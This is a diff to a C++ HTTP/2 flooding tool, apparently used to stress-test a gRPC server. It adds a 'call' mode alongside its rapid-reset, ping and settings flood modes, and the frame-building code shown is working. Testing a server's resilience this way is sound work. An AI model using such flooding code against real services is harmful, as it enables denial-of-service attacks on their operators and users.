@@ -1,10 +1,10 @@
 // SPDX-License-Identifier: Apache-2.0
 // http2-attacker: floods a gRPC port with HTTP/2 frames from several connections. A connection that the server ends is
 // opened again at once.
-//   http2-attacker PORT CONNECTIONS SECONDS reset|ping|settings [--method PATH] [--token TOKEN]
+//   http2-attacker PORT CONNECTIONS SECONDS reset|call|ping|settings [--method PATH] [--token TOKEN]
 //                  [--deaf]
-// reset: calls that are reset at once, of GetStatus unless --method names another. ping, settings: frames that the
-// server must acknowledge.
+// reset: calls that are reset at once, of GetStatus unless --method names another; call: the same calls with an empty
+// message and without the reset. ping, settings: frames that the server must acknowledge.
 // --deaf: reads nothing. Prints how many frames it has sent and how many connections it has opened.
 #include <fcntl.h>
 #include <poll.h>
@@ -71,8 +71,8 @@ std::string CallHeaders(const std::string& method, const std::string& token) {
   return headers;
 }
 
-constexpr uint8_t kHeaders = 1, kReset = 3, kSettings = 4, kPing = 6;
-constexpr uint8_t kEndHeaders = 4;
+constexpr uint8_t kData = 0, kHeaders = 1, kReset = 3, kSettings = 4, kPing = 6;
+constexpr uint8_t kEndStream = 1, kEndHeaders = 4;
 constexpr int kFramesAtOnce = 100;
 
 // Sends all of `bytes`; meanwhile it reads what comes, unless it is deaf. False: the connection has ended.
@@ -101,7 +101,11 @@ void AppendFrames(std::string* out, const Attack& attack, const std::string& hea
       AppendFrame(out, kSettings, 0, 0, "");
     } else {
       AppendFrame(out, kHeaders, kEndHeaders, *stream, headers);
-      AppendFrame(out, kReset, 0, *stream, std::string("\0\0\0\x08", 4));  // CANCEL.
+      if (attack.kind == "call") {
+        AppendFrame(out, kData, kEndStream, *stream, std::string(5, '\0'));  // Not compressed, of no bytes.
+      } else {
+        AppendFrame(out, kReset, 0, *stream, std::string("\0\0\0\x08", 4));  // CANCEL.
+      }
       *stream += 2;
     }
   }
